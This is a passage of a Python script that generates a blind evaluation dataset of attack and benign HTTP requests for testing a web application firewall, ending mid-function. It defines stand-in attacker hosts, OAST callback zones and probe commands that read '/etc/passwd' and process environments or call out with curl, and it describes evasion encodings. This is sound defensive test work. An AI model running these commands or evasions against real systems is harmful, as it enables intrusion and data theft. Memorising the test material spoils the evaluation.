#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v26" (waf_unseen_seventeenth.jsonl).

Provenance: written blind on 2026-12-08 by a helper session that read none of
the WAF's rules, checks, source code, tests, docs, benchmarks or corpora (only
the output-format docstring of make_waf_unseen_fourteenth.py was consulted, to
copy the row format).  Attack payloads were composed from general knowledge of
the techniques (no payload lists were fetched or copied); benign traffic was
composed from general knowledge of ordinary web/API usage.  Source tag "v26";
all randomness comes from random.Random(171717), so two runs give
byte-identical output.  Standard library only.  Run from the repository root:

    python3 tests/data/make_waf_unseen_seventeenth.py

Output: waf_unseen_seventeenth.jsonl next to this script, one JSON object per
line with keys in exactly this order:

  id         "v26-a-<category>-NNNN" (attack) / "v26-b-<category>-NNNN"
             (benign), numbered per category from 0001
  label      "attack" or "benign"
  category   attack: java_injection, php_injection, code_injection, rfi,
             ssrf, rce, sqli, nosqli, ldapi, ssti, crlf, mail_injection, xss,
             path_traversal, xxe, log4shell (50 rows each, 20 of them hard;
             800 in all);
             benign: benign_travel, benign_education, benign_finance,
             benign_media, benign_chat, benign_code_review, benign_search,
             benign_graphql, benign_urls, benign_files, benign_base64,
             benign_api_json, benign_forms, benign_headers, benign_richtext
             (the first five kinds 74 rows, the other ten 73 rows, 1100 in
             all; every third row of a kind, 25 per kind, is hard); 1900 rows
             in total.
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept (in that order, first),
             plus Content-Type when there is a body; header values are ASCII
             without CR/LF; never Content-Length
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type) or XML
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml.  For query_key / json_key the payload is the
             parameter name / object key (a json_key may sit deep inside the
             document; a query_key may have no "=", as sent to raw-query and
             php-cgi style handlers); a form row may carry the payload as a
             value or as a field name (e.g. "password[$ne]", Spring
             "class.module..."); a json row may carry it 10+ levels deep or
             after 300+ characters of ordinary text in the same value (the
             payload is then the whole value, ordinary text included; form
             and multipart text fields use the same long-text trick now and
             then); a multipart row carries it as a text field, a field name,
             a file's content or a file's filename; an xml row is either a
             value inside an element or (xxe, XStream, XMLDecoder, XSLT,
             benign podcast feeds, JUnit reports, Maven POMs) the whole
             document.  A header row may put the payload in a standard
             header (User-Agent, Referer, Accept, Host, Content-Type, From,
             ...) or in a custom one; a cookie row carries it as one cookie's
             value in the Cookie header.
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity/character-reference decoding; header
             values and multipart parts are not decoded).  Deliberate encoded
             evasions (double percent-encoding, %uXXXX, overlong UTF-8,
             literal %0d%0a in a header, ...) are kept literally, i.e. the raw
             request carries them percent-encoded once more.  Two query-string
             rows are percent-encoded as Latin-1 bytes (a php_injection
             query_key row with the %AD soft hyphen of php-cgi CVE-2024-4577
             and a sqli query row with a %BF%27 GBK wide-byte quote); their
             payloads are the Latin-1 decoding.  For JSON values that are
             objects or arrays (NoSQL operators, gadget objects, structured
             benign values) the payload is the compact JSON text as in the
             raw body (unescaped when a hard row writes it with \\u
             escapes).  For a GraphQL document the payload is the whole
             "query" string.
  hard       true for evasive attacks (20 of 50 per category: raw
             encodings, JSON \\u escapes, XML character references, base64
             layers, odd IP spellings, language-level obfuscation, unicode
             lookalikes) and for benign rows deliberately prone to false
             positives (a third)
  source     "v26"
"""

import base64
import gzip
import json
import random
import re
import string
import zlib
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote, quote_plus, unquote, unquote_plus

R = random.Random(171717)
SOURCE = "v26"
OUT = Path(__file__).resolve().parent / "waf_unseen_seventeenth.jsonl"

LOWER_DIGITS = string.ascii_lowercase + string.digits
ALNUM = string.ascii_letters + string.digits

# ---------------------------------------------------------------- small helpers


def rstr(n, alphabet=ALNUM):
    return "".join(R.choice(alphabet) for _ in range(n))


def rhex(n):
    return rstr(n, "0123456789abcdef")


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def uuid4():
    h = rhex(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], R.choice("89ab"), h[17:20], h[20:32])


def b64(data):
    if isinstance(data, str):
        data = data.encode()
    return base64.b64encode(data).decode()


def b64url(data):
    if isinstance(data, str):
        data = data.encode()
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def epoch():
    # a moment in October..December 2026
    return R.randint(1790800000, 1796700000)


def iso_ts():
    import datetime as _dt

    t = _dt.datetime(1970, 1, 1) + _dt.timedelta(seconds=epoch())
    return t.strftime("%Y-%m-%dT%H:%M:%S") + R.choice(["Z", ".%03dZ" % R.randint(0, 999), "+00:00"])


def jwt(claims=None, alg="HS256", kid=None):
    hdr = {"alg": alg, "typ": "JWT"}
    if kid:
        hdr["kid"] = kid
    now = epoch()
    c = {"sub": str(R.randint(10000, 999999)), "iat": now, "exp": now + R.choice([900, 3600, 86400])}
    if claims:
        c.update(claims)
    sig = rbytes(32 if alg.startswith("HS") else 256)
    return "%s.%s.%s" % (
        b64url(json.dumps(hdr, separators=(",", ":"))),
        b64url(json.dumps(c, separators=(",", ":"))),
        b64url(sig),
    )


def ver():
    return "%d.%d.%d" % (R.randint(1, 9), R.randint(0, 40), R.randint(0, 20))


# ---------------------------------------------------------------- attacker-side placeholders

OAST_ZONES = [
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.fun",
    "oast.me",
    "oast.online",
    "interact.sh",
    "dnslog.cn",
    "requestrepo.com",
    "ceye.io",
    "burpcollaborator.net",
]
ATTACKER_IPS = [
    "198.51.100.23",
    "203.0.113.77",
    "192.0.2.44",
    "198.51.100.140",
    "203.0.113.9",
    "192.0.2.201",
    "198.51.100.61",
    "203.0.113.180",
]
ATTACKER_HOSTS = [
    "cdn-static-assets.net",
    "update-check.info",
    "img-cache.top",
    "files.x0r-labs.io",
    "static.jsdelivr-cdn.org",
    "pkg-mirror.xyz",
    "telemetry-sync.com",
    "a1b2-203-0-113-9.ngrok-free.app",
    "dl.kernel-updates.ru",
    "paste.c0de.sh",
]
UNIX_CMDS = [
    "id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "hostname",
    "ls -la /",
    "env",
    "cat /proc/self/environ",
    "ps aux",
    "ifconfig",
    "curl -s http://«OAST»/p",
]
SIMPLE_CMDS = ["id", "whoami", "hostname", "uname -a", "cat /etc/passwd", "ls /"]
WIN_CMDS = ["whoami", "ipconfig /all", "type C:\\Windows\\win.ini", "net user", "systeminfo", "tasklist /v"]


def oast():
    return rstr(R.randint(10, 20), LOWER_DIGITS) + "." + R.choice(OAST_ZONES)


FILLERS = {
    "«OAST»": oast,
    "«IP»": lambda: R.choice(ATTACKER_IPS),
    "«AH»": lambda: R.choice(ATTACKER_HOSTS),
    "«CMD»": lambda: R.choice(UNIX_CMDS),
    "«WCMD»": lambda: R.choice(WIN_CMDS),
}


def fill(obj):
    if isinstance(obj, str):
        s = obj
        for _ in range(5):
            if "«" not in s:
                break
            for tok, gen in FILLERS.items():
                while tok in s:
                    s = s.replace(tok, gen(), 1)
        assert "«" not in s, s
        return s
    if isinstance(obj, list):
        return [fill(x) for x in obj]
    if isinstance(obj, dict):
        return {fill(k): fill(v) for k, v in obj.items()}
    return obj


def E(p, **kw):
    d = dict(kw)
    d["p"] = p
    return d


# ---------------------------------------------------------------- JSON serialisation with optional \u escapes


def jstr(s, esc=None, upper=False):
    out = ['"']
    fmt = "\\u%04X" if upper else "\\u%04x"
    for c in s:
        o = ord(c)
        if esc is not None and (esc == "ALL" or c in esc):
            if o > 0xFFFF:
                v = o - 0x10000
                out.append(fmt % (0xD800 + (v >> 10)))
                out.append(fmt % (0xDC00 + (v & 0x3FF)))
            else:
                out.append(fmt % o)
        elif c == '"':
            out.append('\\"')
        elif c == "\\":
            out.append("\\\\")
        elif c == "\n":
            out.append("\\n")
        elif c == "\r":
            out.append("\\r")
        elif c == "\t":
            out.append("\\t")
        elif c == "\b":
            out.append("\\b")
        elif c == "\f":
            out.append("\\f")
        elif o < 0x20:
            out.append("\\u%04x" % o)
        else:
            out.append(c)
    out.append('"')
    return "".join(out)


def cdump(obj, esc=None, upper=False):
    if isinstance(obj, str):
        return jstr(obj, esc, upper)
    if obj is True:
        return "true"
    if obj is False:
        return "false"
    if obj is None:
        return "null"
    if isinstance(obj, (int, float)):
        return json.dumps(obj)
    if isinstance(obj, list):
        return "[" + ",".join(cdump(x, esc, upper) for x in obj) + "]"
    if isinstance(obj, dict):
        return "{" + ",".join(jstr(k, esc, upper) + ":" + cdump(v, esc, upper) for k, v in obj.items()) + "}"
    raise TypeError(type(obj))


SENT = "\ue000SENTINEL\ue000"
SENTK = "\ue001SENTKEY\ue001"

# ---------------------------------------------------------------- XML helpers


def xml_escape(s, xref=None):
    out = []
    for c in s:
        if xref and c in xref:
            o = ord(c)
            out.append(R.choice(["&#x%x;" % o, "&#%d;" % o, "&#x%X;" % o]))
        elif c == "&":
            out.append("&amp;")
        elif c == "<":
            out.append("&lt;")
        elif c == ">":
            out.append("&gt;")
        elif c == "\r":
            out.append("&#13;")
        else:
            out.append(c)
    return "".join(out)


def xml_ok(s):
    for c in s:
        o = ord(c)
        if o < 0x20 and c not in "\t\n\r":
            return False
        if 0xD800 <= o <= 0xDFFF or o in (0xFFFE, 0xFFFF):
            return False
    return True


def header_ok(s):
    return all(0x20 <= ord(c) < 0x7F for c in s) and len(s) > 0


XML_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_.-]*$")

# ---------------------------------------------------------------- client profiles

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
]
API_UAS = [
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "axios/1.7.7",
    "PostmanRuntime/7.42.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.12)",
    "Dart/3.5 (dart:io)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Faraday v2.12.0",
    "aiohttp/3.10.10",
    "Java-http-client/21.0.5",
    "GuzzleHttp/7",
    "RestSharp/112.1.0.0",
    "undici",
    "Wanderly/5.14.2 (iPhone; iOS 18.1; Scale/3.00)",
    "com.ledgerly.android/4.8.0 (Linux; U; Android 14; Pixel 7 Build/AP2A)",
    "Microsoft.Graph.Client/3.1 (.NET 8.0)",
    "ktor-client",
    "Retrofit/2.11.0 okhttp/4.12.0",
]
SOAP_UAS = [
    "Apache-HttpClient/4.5.14 (Java/17.0.12)",
    "Zeep/4.3.1 (www.python-zeep.org)",
    "gSOAP/2.8",
    "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)",
    "Apache CXF 3.6.4",
]
BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
BROWSER_ACCEPT2 = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"
XHR_ACCEPTS = [
    "application/json, text/plain, */*",
    "application/json",
    "*/*",
    "application/json, text/javascript, */*; q=0.01",
]
API_ACCEPTS = [
    "application/json",
    "*/*",
    "application/json; charset=utf-8",
    "application/vnd.api+json",
    "application/hal+json",
]
LANGS = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.8",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.9,en-US;q=0.6",
    "ja,en-US;q=0.8,en;q=0.6",
    "es-MX,es;q=0.9,en;q=0.8",
    "pt-BR,pt;q=0.9,en;q=0.5",
    "nl-NL,nl;q=0.9,en;q=0.8",
    "pl-PL,pl;q=0.9,en-US;q=0.7",
    "ko-KR,ko;q=0.9,en;q=0.5",
    "sv-SE,sv;q=0.9,en;q=0.8",
    "it-IT,it;q=0.9",
]
REF_PATHS = [
    "/",
    "/dashboard",
    "/account/settings",
    "/search",
    "/app/",
    "/checkout/review",
    "/inbox",
    "/projects/overview",
    "/docs/getting-started",
    "/trips/upcoming",
    "/courses/312/modules",
]


def session_cookies():
    opts = [
        lambda: ("session", rstr(R.choice([32, 40, 48]), LOWER_DIGITS)),
        lambda: ("_ga", "GA1.2.%d.%d" % (R.randint(100000000, 999999999), epoch())),
        lambda: ("csrftoken", rstr(32)),
        lambda: ("theme", R.choice(["dark", "light", "system"])),
        lambda: ("JSESSIONID", rhex(32).upper()),
        lambda: ("PHPSESSID", rstr(26, LOWER_DIGITS)),
        lambda: ("connect.sid", "s%3A" + rstr(32) + "." + rstr(43)),
        lambda: ("_gid", "GA1.2.%d.%d" % (R.randint(100000000, 999999999), epoch())),
        lambda: ("locale", R.choice(["en-US", "de-DE", "fr-FR", "ja-JP", "pt-BR"])),
        lambda: ("XSRF-TOKEN", rstr(40)),
        lambda: ("ajs_anonymous_id", uuid4()),
        lambda: ("cf_clearance", rstr(43) + "-" + str(epoch()) + "-1.2.1.1-" + rstr(20)),
    ]
    n = R.randint(1, 3)
    picked = R.sample(range(len(opts)), n)
    return [opts[i]() for i in picked]


def auth_header():
    t = R.randrange(5)
    if t in (0, 1):
        return (
            "Authorization",
            "Bearer " + jwt({"scope": R.choice(["read:all", "openid profile email", "orders:write"])}),
        )
    if t == 2:
        return (
            "Authorization",
            "Basic " + b64("%s:%s" % (R.choice(["svc-sync", "deploy", "ci-bot", "reporting"]), rstr(20))),
        )
    if t == 3:
        return ("X-Api-Key", R.choice(["sk_live_", "pk_", "key_", "ak-"]) + rstr(32))
    return ("Authorization", "Token " + rhex(40))


def make_headers(host, client, method, ctype, has_body):
    if client in ("browser", "xhr"):
        ua = R.choice(BROWSER_UAS)
        accept = R.choice([BROWSER_ACCEPT, BROWSER_ACCEPT2]) if client == "browser" else R.choice(XHR_ACCEPTS)
    elif client == "soap":
        ua = R.choice(SOAP_UAS)
        accept = R.choice(["text/xml, application/xml", "application/soap+xml, text/xml", "*/*"])
    else:
        ua = R.choice(API_UAS)
        accept = R.choice(API_ACCEPTS)
    core = [["Host", host], ["User-Agent", ua], ["Accept", accept]]
    if has_body:
        core.append(["Content-Type", ctype])
    extras = []
    cookies = []
    if client in ("browser", "xhr"):
        extras.append(["Accept-Language", R.choice(LANGS)])
        extras.append(["Accept-Encoding", R.choice(["gzip, deflate, br, zstd", "gzip, deflate, br", "gzip, deflate"])])
        if R.random() < 0.65:
            extras.append(["Referer", "https://%s%s" % (host, R.choice(REF_PATHS))])
        if method not in ("GET", "HEAD") and R.random() < 0.7:
            extras.append(["Origin", "https://%s" % host])
        if client == "browser":
            if method == "GET" and R.random() < 0.5:
                extras.append(["Upgrade-Insecure-Requests", "1"])
            if R.random() < 0.5:
                extras.append(["Sec-Fetch-Dest", "document"])
                extras.append(["Sec-Fetch-Mode", "navigate"])
                extras.append(["Sec-Fetch-Site", R.choice(["same-origin", "none", "cross-site"])])
        else:
            if R.random() < 0.35:
                extras.append(["X-Requested-With", "XMLHttpRequest"])
            if R.random() < 0.3:
                extras.append(["X-CSRF-Token", rstr(R.choice([32, 43, 64]))])
            if R.random() < 0.4:
                extras.append(["Sec-Fetch-Mode", "cors"])
                extras.append(["Sec-Fetch-Site", "same-origin"])
        cookies = session_cookies()
    elif client == "soap":
        extras.append(
            [
                "SOAPAction",
                '"urn:%s"' % R.choice(["GetQuote", "SubmitOrder", "UpdateProfile", "SearchCatalog", "PostInvoice"]),
            ]
        )
        extras.append(["Accept-Encoding", "gzip,deflate"])
    else:
        if R.random() < 0.75:
            extras.append(list(auth_header()))
        if R.random() < 0.6:
            extras.append(["Accept-Encoding", "gzip"])
        if R.random() < 0.4:
            extras.append([R.choice(["X-Request-Id", "X-Correlation-ID", "Idempotency-Key"]), uuid4()])
        if R.random() < 0.2:
            extras.append(["traceparent", "00-%s-%s-01" % (rhex(32), rhex(16))])
    return core, extras, cookies


# ---------------------------------------------------------------- ordinary filler content

LONG_TEXTS = [
    "Hi team, following up on the ticket from last Thursday. The export job finished, but the CSV had a couple of duplicated rows for customers who changed their billing address mid-cycle. I re-ran it with the dedupe flag and attached the corrected file. Could someone from finance double-check the totals against the ledger before we send it to the auditors? Thanks again for the quick turnaround, and sorry for the late notice on this one.",
    "We stayed four nights in late September and overall had a lovely time. The room was spotless, the staff at reception remembered our names by the second day, and breakfast had a good mix of local pastries and hot dishes. The only downside was the street noise on weekends, so ask for a room facing the courtyard if you are a light sleeper. The tram stop is two minutes away which made getting around very easy.",
    "Meeting notes, design sync: we agreed to keep the sidebar collapsed by default on tablets, move the search field into the header, and revisit the colour contrast on secondary buttons after the accessibility audit. Marta will share updated mockups by Friday. Open question about whether the onboarding checklist should be dismissible permanently or come back after major releases; we will ask the support team for data first.",
    "This is my third order from this shop and the quality is still great. The jacket fits true to size, the zipper feels sturdy and the lining is warmer than I expected for the weight. Shipping took six days to Porto, which is fine. I would love to see more colour options in the next season and maybe a version with a detachable hood. Customer service answered my sizing question within an hour.",
    "Quick summary of the incident review: between 02:10 and 02:45 UTC the queue consumers fell behind because a config change lowered the prefetch count. No data was lost; messages were delayed and then processed in order. Action items are to add an alert on consumer lag, document the safe range for the prefetch setting, and add a canary step to the config rollout. Thanks everyone who joined the call at short notice.",
    "Dear course staff, I am writing about the group project deadline. Two members of our team were sick last week and we could not finish the data collection part on time. We have already completed the literature review and the survey design, and we expect to have the analysis done by Monday. Would it be possible to get a short extension, or should we submit what we have and add an appendix later?",
    "Release notes draft: this version improves startup time on older Android devices, fixes the crash when rotating the screen during video playback, and adds support for right-to-left languages in the comment editor. We also updated the privacy screen so people can see exactly which analytics events are collected. Please review the wording in the French and German translations before we ship to the store on Wednesday.",
    "Just wanted to say the new dashboard is so much easier to read. I used to export everything to a spreadsheet just to compare months, and now the chart does it for me. One small request: could the date picker remember the last range I chose? I usually look at the previous quarter and have to click through the calendar every single time. Otherwise great work, and thanks for listening to feedback.",
]
for _t in LONG_TEXTS:
    assert len(_t) >= 300, len(_t)

QEXTRA = [
    lambda: ("page", str(R.randint(1, 12))),
    lambda: ("per_page", R.choice(["10", "20", "25", "50"])),
    lambda: ("lang", R.choice(["en", "de", "fr", "pt-BR", "ja"])),
    lambda: ("utm_source", R.choice(["newsletter", "google", "partner", "twitter"])),
    lambda: ("utm_medium", R.choice(["email", "cpc", "social"])),
    lambda: ("ref", R.choice(["nav", "homepage", "footer", "search"])),
    lambda: ("v", str(R.randint(1, 4))),
    lambda: ("_", str(epoch() * 1000 + R.randint(0, 999))),
    lambda: ("sort", R.choice(["-created_at", "name", "price", "relevance"])),
    lambda: ("format", R.choice(["json", "html"])),
    lambda: ("tab", R.choice(["overview", "activity", "settings"])),
    lambda: ("currency", R.choice(["EUR", "USD", "GBP", "JPY"])),
    lambda: ("include", R.choice(["author,comments", "items", "owner"])),
    lambda: ("limit", R.choice(["20", "100"])),
]
FORM_EXTRA = [
    lambda: ("csrf_token", rstr(40)),
    lambda: ("_token", rstr(40)),
    lambda: ("locale", R.choice(["en", "de", "fr"])),
    lambda: ("remember", "on"),
    lambda: ("submit", R.choice(["Save", "Send", "Continue", "Update"])),
    lambda: (
        "email",
        R.choice(["maria.k", "j.doe", "ops", "lena.h", "t.ito"])
        + "@"
        + R.choice(["example.com", "mail.example.org", "corp.example.net"]),
    ),
    lambda: ("name", R.choice(["Maria Kovacs", "John Doe", "Lena Hoffmann", "Takeshi Ito", "Ana Lima"])),
    lambda: ("source", R.choice(["web", "mobile", "widget"])),
    lambda: ("tz", R.choice(["Europe/Lisbon", "America/Chicago", "Asia/Tokyo"])),
]


def qextra(n=None):
    if n is None:
        n = R.choice([0, 1, 1, 2, 2, 3])
    idx = R.sample(range(len(QEXTRA)), n)
    return [QEXTRA[i]() for i in idx]


def fextra(n=None):
    if n is None:
        n = R.choice([1, 2, 2, 3])
    idx = R.sample(range(len(FORM_EXTRA)), n)
    return [FORM_EXTRA[i]() for i in idx]


DEEP_KEYS = [
    "data",
    "attributes",
    "content",
    "blocks",
    "children",
    "props",
    "config",
    "settings",
    "options",
    "filters",
    "query",
    "params",
    "context",
    "metadata",
    "payload",
    "body",
    "request",
    "nodes",
    "layout",
    "section",
    "items",
    "value",
    "fields",
    "spec",
    "template",
    "rules",
    "document",
    "state",
    "form",
    "step",
]


def json_wrap(field, S):
    t = R.randrange(7)
    if t == 0:
        return {field: S}
    if t == 1:
        return {
            "data": {
                "type": R.choice(["comments", "profiles", "tickets", "orders", "documents"]),
                "id": str(R.randint(100, 99999)),
                "attributes": {field: S},
            }
        }
    if t == 2:
        return {"id": R.randint(1000, 99999), field: S, "updatedAt": iso_ts()}
    if t == 3:
        return {
            "request": {"locale": R.choice(["en-US", "de-DE", "fr-FR"]), "params": {field: S}},
            "client": {"name": R.choice(["web", "ios", "android"]), "version": ver()},
        }
    if t == 4:
        return {
            "items": [{"sku": "SKU-%05d" % R.randint(1, 99999), "qty": R.randint(1, 4)}],
            field: S,
            "currency": R.choice(["EUR", "USD"]),
        }
    if t == 5:
        return {
            "event": R.choice(["form_submit", "profile.updated", "search"]),
            "payload": {field: S},
            "sentAt": iso_ts(),
        }
    return {"meta": {"requestId": uuid4()}, "input": {field: S, "dryRun": R.choice([True, False])}}


def json_deep(field, S):
    n = R.randint(10, 13)
    keys = R.sample(DEEP_KEYS, n)
    cur = {field: S}
    for k in keys:
        if R.random() < 0.2:
            cur = [cur]
        if R.random() < 0.3:
            cur = {"type": R.choice(["section", "group", "block", "node", "panel"]), k: cur}
        else:
            cur = {k: cur}
    return cur


def xml_value_doc(field, V):
    if not XML_NAME.match(field):
        field = "value"
    t = R.randrange(6)
    decl = R.choice(['<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0"?>', ""])
    if t == 0:
        op = R.choice(["UpdateCustomer", "SubmitOrder", "SearchProducts", "CreateTicket", "GetQuote"])
        return (
            decl
            + '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:svc="urn:%s"><soapenv:Header/><soapenv:Body><svc:%s><svc:accountId>%d</svc:accountId><svc:%s>%s</svc:%s></svc:%s></soapenv:Body></soapenv:Envelope>'
            % (
                R.choice(["crm.v2", "orders", "catalog.v1", "helpdesk"]),
                op,
                R.randint(1000, 99999),
                field,
                V,
                field,
                op,
            )
        )
    if t == 1:
        return (
            decl
            + "<methodCall><methodName>%s</methodName><params><param><value><int>%d</int></value></param><param><value><string>%s</string></value></param></params></methodCall>"
            % (R.choice(["wp.editPost", "blog.search", "user.update", "catalog.lookup"]), R.randint(1, 900), V)
        )
    if t == 2:
        return decl + '<request version="%s"><customer id="%d"><name>%s</name><%s>%s</%s></customer></request>' % (
            R.choice(["1.0", "2.1"]),
            R.randint(100, 99999),
            R.choice(["Maria Kovacs", "John Doe", "Lena Hoffmann"]),
            field,
            V,
            field,
        )
    if t == 3:
        return (
            decl
            + '<entry xmlns="http://www.w3.org/2005/Atom"><title>%s</title><updated>%s</updated><content type="text">%s</content></entry>'
            % (R.choice(["Weekly update", "Draft", "Release notes"]), iso_ts(), V)
        )
    if t == 4:
        return (
            decl
            + '<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><D:displayname>%s</D:displayname></D:prop></D:set></D:propertyupdate>'
            % V
        )
    return decl + '<order><id>%d</id><lines><line sku="SKU-%04d" qty="%d"/></lines><%s>%s</%s></order>' % (
        R.randint(10000, 99999),
        R.randint(1, 9999),
        R.randint(1, 5),
        field,
        V,
        field,
    )


def boundary():
    t = R.randrange(4)
    if t == 0:
        return "----WebKitFormBoundary" + rstr(16)
    if t == 1:
        return "------------------------" + rstr(16, "0123456789abcdef")
    if t == 2:
        return rhex(32)
    return "---------------------------" + str(R.randint(10**27, 10**28 - 1))


def multipart_body(parts, bnd):
    lines = []
    for p in parts:
        lines.append("--" + bnd)
        cd = 'Content-Disposition: form-data; name="%s"' % p["name"]
        if p.get("filename") is not None:
            cd += '; filename="%s"' % p["filename"]
        lines.append(cd)
        if p.get("ctype"):
            lines.append("Content-Type: " + p["ctype"])
        lines.append("")
        lines.append(p["content"])
    lines.append("--" + bnd + "--")
    return "\r\n".join(lines) + "\r\n"


def parse_multipart(body, bnd):
    assert body.endswith("\r\n--" + bnd + "--\r\n")
    assert body.startswith("--" + bnd + "\r\n")
    inner = body[len("--" + bnd + "\r\n") : -len("\r\n--" + bnd + "--\r\n")]
    out = []
    for chunk in inner.split("\r\n--" + bnd + "\r\n"):
        head, _, content = chunk.partition("\r\n\r\n")
        m = re.search(r'name="([^"]*)"', head)
        f = re.search(r'filename="([^"]*)"', head)
        out.append({"name": m.group(1), "filename": f.group(1) if f else None, "content": content})
    return out


def file_ctype(fn):
    ext = fn.rsplit(".", 1)[-1].lower() if "." in fn else ""
    return {
        "png": "image/png",
        "jpg": "image/jpeg",
        "jpeg": "image/jpeg",
        "gif": "image/gif",
        "svg": "image/svg+xml",
        "pdf": "application/pdf",
        "csv": "text/csv",
        "txt": "text/plain",
        "xml": "application/xml",
        "json": "application/json",
        "yml": "application/x-yaml",
        "yaml": "application/x-yaml",
        "html": "text/html",
        "md": "text/markdown",
        "zip": "application/zip",
        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "php": "application/x-php",
        "mvg": "image/x-mvg",
        "srt": "application/x-subrip",
        "vtt": "text/vtt",
        "ics": "text/calendar",
        "gpx": "application/gpx+xml",
        "sql": "application/sql",
        "sh": "application/x-sh",
        "js": "text/javascript",
        "py": "text/x-python",
    }.get(ext, "application/octet-stream")


# ---------------------------------------------------------------- request builder

PLACEMENTS = ["query", "query_key", "path", "json", "json_key", "form", "header", "cookie", "multipart", "xml"]
QSAFES = ["", "", "/:", "/:,", "/:@!$'()*,;"]
PSAFES = ["/:@!$&'()*+,;=", "/", "/:@", ""]
CSAFES = ["!#$&'()*-./:<=>?@[]^_`{|}~", "", "/:=", "-._~"]
CORE = ("Host", "User-Agent", "Accept", "Content-Type")
CTYPE_JSON = [
    "application/json",
    "application/json",
    "application/json; charset=utf-8",
    "application/json;charset=UTF-8",
]
CTYPE_FORM = ["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"]


def qenc(s, safe, plus):
    return quote_plus(s, safe=safe) if plus else quote(s, safe=safe)


def mp_name_ok(s):
    return '"' not in s and "\r" not in s and "\n" not in s and len(s) < 240 and s != ""


def placement_ok(e, pl, ptxt, is_obj):
    if is_obj:
        return pl == "json"
    if e.get("doc"):
        return pl in ("xml", "multipart", "form", "json", "query")
    if pl == "header":
        return header_ok(ptxt)
    if pl == "xml":
        return xml_ok(ptxt)
    if pl == "query_key":
        return len(ptxt) < 600
    return True


ORD_FILES = {
    "pdf": "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
    "csv": "date,description,amount\n2026-11-02,Office supplies,42.10\n2026-11-05,Team lunch,118.00\n",
    "txt": "Notes from the call:\n- ship the fix on Tuesday\n- update the FAQ\n",
    "json": '{"version":1,"items":[]}\n',
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"><circle cx="8" cy="8" r="7" fill="#3b82f6"/></svg>\n',
    "md": "# Notes\n\nNothing special here.\n",
}


def ordinary_file_content(fn):
    ext = fn.rsplit(".", 1)[-1].lower() if "." in fn else "txt"
    return ORD_FILES.get(ext, ORD_FILES["txt"])


def build(cat, e, pl, payload, sink, long_mode=False, deep=False):
    host = e.get("host") or R.choice(sink["hosts"])
    path0 = e.get("path") or R.choice(sink["paths"])
    param = e.get("param") or R.choice(sink["params"])
    is_obj = not isinstance(payload, str)
    esc = e.get("jesc")
    upper = R.random() < 0.4
    client = e.get("client")
    body_pl = pl in ("json", "json_key", "form", "multipart", "xml")
    if client is None:
        if pl == "xml":
            client = R.choice(["soap", "api", "api"])
        elif pl in ("json", "json_key"):
            client = R.choice(["xhr", "xhr", "api"])
        elif pl in ("form", "multipart"):
            client = R.choice(["browser", "browser", "xhr", "api"])
        elif pl == "cookie":
            client = R.choice(["browser", "xhr", "xhr"])
        else:
